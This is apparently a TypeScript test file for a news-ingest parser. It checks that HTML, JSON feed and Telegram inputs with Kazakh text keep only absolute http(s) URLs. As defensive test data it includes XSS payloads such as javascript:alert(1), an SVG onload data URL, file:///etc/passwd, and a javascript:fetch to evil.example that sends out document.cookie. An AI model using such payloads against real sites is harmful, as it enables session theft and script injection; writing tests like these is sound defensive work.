import { httpUrlOrNull } from "@tekser/contracts";
import { describe, expect, it } from "vitest";
import { parseInput } from "./index.ts";

const fetchedAt = new Date("2026-03-14T06:00:00Z");
const encode = (s: string) => new TextEncoder().encode(s);
const BODY =
  "Қарағанды облысында жаңа мектеп салынды. Мектеп 1200 оқушыға арналған, құрылыс екі жылға созылды. ".repeat(3);

describe("[INGEST][URLS] only absolute http(s) URLs leave a parser", () => {
  it("accepts absolute http(s) URLs only", () => {
    for (const good of ["https://tengrinews.kz/news/1", "http://aikyn.kz/", "  https://x.kz/a b  "])
      expect(httpUrlOrNull(good), good).not.toBeNull();
    for (const bad of [
      "javascript:alert(1)",
      "JavaScript:alert(1)",
      "java\tscript:alert(1)",
      "data:text/html,<b>x</b>",
      "file:///etc/passwd",
      "/relative/path",
      "//cdn.kz/x.jpg",
      "https://",
      "vbscript:x",
      "",
      "https://ex\nample.kz/",
    ]) {
      expect(httpUrlOrNull(bad), JSON.stringify(bad)).toBeNull();
    }
  });

  it("skips a javascript: og:url for the canonical link, reporting it at its place", () => {
    const html = `<!doctype html><html lang="kk"><head><title>Мектеп</title>
      <meta property="og:url" content="javascript:fetch('//evil.example/'+document.cookie)">
      <link rel="canonical" href="https://example-news.kz/society/school">
      <meta property="og:image" content="data:image/svg+xml,<svg onload=alert(1)>">
      </head><body><article><h1>Мектеп</h1><p>${BODY}</p><p><a href="javascript:alert(1)">сілтеме</a> <a href="https://gov.kz/x">gov</a></p></article></body></html>`;
    const outcome = parseInput({ name: "page.html", bytes: encode(html), fetchedAt });
    const [item] = outcome.items;
    expect(item).toMatchObject({
      url: "https://example-news.kz/society/school",
      canonicalUrl: "https://example-news.kz/society/school",
      mediaUrls: [],
    });
    expect(item?.links).toEqual(["https://gov.kz/x"]);
    expect(outcome.errors).toContainEqual({
      location: "document",
      message: `og:url "javascript:fetch('//evil.example/'+document.cookie)" dropped: only absolute http(s) URLs are kept`,
      code: "item.urlDropped",
      params: { value: `"javascript:fetch('//evil.example/'+document.cookie)"` },
    });
    expect(JSON.stringify(outcome.items)).not.toMatch(/javascript:|data:/);
  });

  it("drops javascript: and data: URLs from any format's items, located at the item", () => {
    const feed = {
      version: "https://jsonfeed.org/version/1.1",
      title: "Aikyn",
      home_page_url: "https://aikyn.kz/",
      items: [
        {
          id: "1",
          url: "https://aikyn.kz/1",
          title: "Жаңалық",
          content_text: BODY,
          image: "data:image/png;base64,AAAA",
          date_published: "2026-03-14T05:00:00Z",
        },
      ],
    };
    const fromFeed = parseInput({ name: "feed.json", bytes: encode(JSON.stringify(feed)), fetchedAt });
    expect(fromFeed.items[0]).toMatchObject({ url: "https://aikyn.kz/1", mediaUrls: [] });
    expect(fromFeed.errors).toEqual([
      {
        location: "$.items[0]",
        message: `media URL "data:image/png;base64,AAAA" dropped: only absolute http(s) URLs are kept`,
        code: "item.urlDropped",
        params: { value: `"data:image/png;base64,AAAA"` },
      },
    ]);

    const telegram = {
      id: 1234567890,
      name: "Aikyn",
      messages: [
        {
          id: 7,
          type: "message",
          date_unixtime: "1773464400",
          photo: "photos/photo_1.jpg",
          text: [
            BODY,
            { type: "text_link", text: "мұнда", href: "javascript:alert(1)" },
            { type: "text_link", text: "gov", href: "https://gov.kz/x" },
          ],
        },
      ],
    };
    const fromTelegram = parseInput({ name: "result.json", bytes: encode(JSON.stringify(telegram)), fetchedAt });
    expect(fromTelegram.items).toHaveLength(1);
    expect(fromTelegram.items[0]).toMatchObject({ links: ["https://gov.kz/x"], mediaUrls: [] });
    const location = fromTelegram.items[0]?.location ?? "";
    expect(fromTelegram.errors).toEqual([
      {
        location,
        message: `link "javascript:alert(1)" dropped: only absolute http(s) URLs are kept`,
        code: "item.urlDropped",
        params: { value: `"javascript:alert(1)"` },
      },
    ]);
    expect(location).not.toBe("");
  });
});
